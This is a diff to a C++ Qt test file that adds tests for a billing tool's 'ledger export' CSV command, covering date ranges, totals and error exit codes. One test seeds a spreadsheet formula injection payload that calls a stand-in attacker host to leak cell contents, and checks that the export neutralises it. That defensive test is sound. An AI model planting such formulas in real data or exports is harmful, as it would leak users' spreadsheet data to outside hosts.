@@ -5,6 +5,7 @@
 #include <nlohmann/json.hpp>
 #include <pqxx/pqxx>
 
+#include <QDir>
 #include <QElapsedTimer>
 #include <QFile>
 #include <QTemporaryDir>
@@ -111,6 +112,10 @@ private slots:
         QTest::newRow("bench") << QStringList {"bench", "--help"}
                                << QStringList {"renewalctl bench", "--workers", "--force"}
                                << QStringList {"--reason"};
+        QTest::newRow("ledger export")
+            << QStringList {"ledger", "export", "--help"}
+            << QStringList {"renewalctl ledger export", "--from", "--to", "--totals", "--out"}
+            << QStringList {"--reason"};
         QTest::newRow("help COMMAND")
             << QStringList {"help", "audit", "verify"}
             << QStringList {"renewalctl audit verify", "--anchor"} << QStringList {"--reason"};
@@ -549,13 +554,15 @@ private slots:
         QVERIFY(file.open(QIODevice::WriteOnly));
         file.write(anchor.out);
         file.close();
-        const auto createdAt = QString::fromStdString(
-            nlohmann::json::parse(anchor.out.toStdString())["createdAt"].get<std::string>());
+        const auto exported = nlohmann::json::parse(anchor.out.toStdString());
+        const auto createdAt = QString::fromStdString(exported["createdAt"].get<std::string>());
+        const auto digest = QString::fromStdString(exported["digest"].get<std::string>());
         const auto anchored
             = runProgram(ctl(), withDb(db, {"audit", "verify", "--anchor", anchorPath}));
         QCOMPARE(anchored.exitCode, 0);
-        const auto matches
-            = QString("anchor (%1 heads, exported at %2) matches\n").arg(chains).arg(createdAt);
+        const auto matches = QString("anchor (%1 heads, exported at %2, digest %3) matches\n")
+                                 .arg(chains)
+                                 .arg(createdAt, digest);
         QVERIFY2(anchored.out.contains(matches.toUtf8()), anchored.out.constData());
 
         // A chain removed since (triggers off): the chains left verify, the anchor does not.
@@ -635,6 +642,129 @@ private slots:
         QCOMPARE(again.out,
             QByteArray("folded 0 renewal delta rows into the daily totals, 0 (day, outcome) "
                        "rows of finished inbox days\n"));
+    }
+
+    // `renewalctl ledger export`: the desk's Ledger export from the command line. Ids and keys
+    // come from providers: one that starts like a spreadsheet formula is written with a
+    // leading apostrophe (and quoted as RFC 4180 says); the amounts stay numbers.
+    void ledgerExportNeutralizesFormulas()
+    {
+        rdtest::TestDatabase db("cli_ledger_export");
+        const std::string formula = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"x\")";
+        rdtest::importSubscriptions(db.conninfo(),
+            rdtest::subscriptionLine("stripe-main", formula) + "\n"
+                + rdtest::subscriptionLine("stripe-main", "sub_plain"));
+        const auto event = [](const std::string &subscription, const std::string &eventId,
+                               const std::string &renewalKey, long long amount) {
+            return QByteArray::fromStdString(
+                nlohmann::json {{"providerKey", "stripe-main"}, {"providerEventId", eventId},
+                    {"providerSubscriptionId", subscription}, {"providerRenewalKey", renewalKey},
+                    {"providerVersion", nullptr},
+                    {"period",
+                        {{"start", "2026-02-01T00:00:00Z"}, {"end", "2026-03-01T00:00:00Z"}}},
+                    {"paidAmountMinor", amount}, {"currency", "USD"},
+                    {"paidAt", "2026-02-01T00:00:00Z"}}
+                    .dump()
+                + "\n");
+        };
+        const auto applied = runProgram(ctl(), withDb(db, {"apply"}),
+            event(formula, "@evt_1", "-2+3", 1999) + event("sub_plain", "evt_2", "in_2", 500));
+        QVERIFY2(applied.exitCode == 0, applied.err.constData());
+        const auto idsOf = [&db](const std::string &subscription) {
+            return QByteArray::fromStdString(rdtest::text(db,
+                "SELECT s.id || ',' || b.id FROM subscription_billing_periods b JOIN "
+                "subscriptions s ON s.id = b.subscription_id WHERE s.provider_subscription_id = '"
+                    + subscription + "'"));
+        };
+        const QList<QByteArray> attackerIds = idsOf(formula).split(',');
+        const QList<QByteArray> plainIds = idsOf("sub_plain").split(',');
+        const QByteArray header = "Subscription,Subscription internal id,Provider,Renewal key,"
+                                  "Period start,Period end,Amount,Amount currency,"
+                                  "Amount minor units,Paid at,Recorded by,Provider event,"
+                                  "Billing period id\n";
+        // Same paid_at: by billing period id.
+        QByteArray attackerRow = "\"'=HYPERLINK(\"\"http://attacker.example/?leak=\"\"&A1,"
+                                 "\"\"x\"\")\","
+            + attackerIds[0]
+            + ",stripe-main,'-2+3,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,19.99,USD,1999,"
+              "2026-02-01T00:00:00Z,webhook,'@evt_1,"
+            + attackerIds[1] + "\n";
+        QByteArray plainRow = "sub_plain," + plainIds[0]
+            + ",stripe-main,in_2,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,5.00,USD,500,"
+              "2026-02-01T00:00:00Z,webhook,evt_2,"
+            + plainIds[1] + "\n";
+        if (plainIds[1] < attackerIds[1])
+            std::swap(attackerRow, plainRow);
+
+        QTemporaryDir dir;
+        const QString path = dir.filePath("ledger.csv");
+        const QStringList february {
+            "ledger", "export", "--from", "2026-02-01", "--to", "2026-02-28"};
+        auto r = runProgram(ctl(), withDb(db, february + QStringList {"--out", path}));
+        QVERIFY2(r.exitCode == 0, r.err.constData());
+        QVERIFY(r.out.isEmpty());
+        QVERIFY2(r.err.contains("2 renewal(s) paid 2026-02-01 to 2026-02-28"), r.err.constData());
+        QFile file(path);
+        QVERIFY(file.open(QIODevice::ReadOnly));
+        QCOMPARE(file.readAll(), header + attackerRow + plainRow);
+        file.close();
+        QCOMPARE(QDir(dir.path()).entryList(QDir::Files), QStringList {"ledger.csv"});
+        // A file that cannot be written is said, naming it; nothing is left behind.
+        const QString nowhere = dir.filePath("missing/ledger.csv");
+        r = runProgram(ctl(), withDb(db, february + QStringList {"--out", nowhere}));
+        QCOMPARE(r.exitCode, 65);
+        QVERIFY2(r.err.contains("cannot write '" + nowhere.toUtf8() + "'"), r.err.constData());
+        // Standard output carries the same file.
+        r = runProgram(ctl(), withDb(db, february));
+        QVERIFY2(r.exitCode == 0, r.err.constData());
+        QCOMPARE(r.out, header + attackerRow + plainRow);
+        // The days are inclusive UTC days: nothing paid in March, nor on 31 January.
+        r = runProgram(
+            ctl(), withDb(db, {"ledger", "export", "--from", "2026-01-01", "--to", "2026-01-31"}));
+        QVERIFY2(r.exitCode == 0, r.err.constData());
+        QCOMPARE(r.out, header);
+        r = runProgram(
+            ctl(), withDb(db, {"ledger", "export", "--from", "2026-02-01", "--to", "2026-02-01"}));
+        QCOMPARE(r.out, header + attackerRow + plainRow);
+
+        r = runProgram(ctl(), withDb(db, february + QStringList {"--totals"}));
+        QVERIFY2(r.exitCode == 0, r.err.constData());
+        QCOMPARE(r.out,
+            QByteArray("group,month,provider,currency,renewals,amount,amount minor units\n"
+                       "month,2026-02,,USD,2,24.99,2499\n"
+                       "provider,,stripe-main,USD,2,24.99,2499\n"));
+
+        // The current month by default.
+        r = runProgram(ctl(), withDb(db, {"ledger", "export"}));
+        QVERIFY2(r.exitCode == 0, r.err.constData());
+        QVERIFY(r.out.startsWith(header));
+        const QString today = QDateTime::currentDateTimeUtc().date().toString(Qt::ISODate);
+        QVERIFY2(r.err.contains(" paid " + today.left(8).toUtf8() + "01 to "), r.err.constData());
+    }
+
+    void ledgerExportRefusesBadDays_data()
+    {
+        QTest::addColumn<QStringList>("args");
+        QTest::addColumn<QString>("message");
+        QTest::newRow("no such day") << QStringList {"--from", "2026-02-30"}
+                                     << "--from must be a UTC day YYYY-MM-DD, not '2026-02-30'";
+        QTest::newRow("a word") << QStringList {"--to", "yesterday"}
+                                << "--to must be a UTC day YYYY-MM-DD, not 'yesterday'";
+        QTest::newRow("a time") << QStringList {"--from", "2026-02-01T00:00:00Z"} << "--from must";
+        QTest::newRow("month 13") << QStringList {"--to", "2026-13-01"} << "--to must";
+        QTest::newRow("year 0") << QStringList {"--from", "0000-01-01"} << "--from must";
+        QTest::newRow("from after to") << QStringList {"--from", "2026-03-01", "--to", "2026-02-01"}
+                                       << "--from 2026-03-01 is after --to 2026-02-01";
+    }
+    void ledgerExportRefusesBadDays()
+    {
+        QFETCH(QStringList, args);
+        QFETCH(QString, message);
+        // Said before any database is opened.
+        const auto r = runProgram(
+            ctl(), QStringList {"ledger", "export", "--db", "host=/nonexistent dbname=x"} + args);
+        QCOMPARE(r.exitCode, 64);
+        QVERIFY2(r.err.contains(message.toUtf8()), r.err.constData());
     }
 
     void benchRefusesADatabaseWithOtherData()
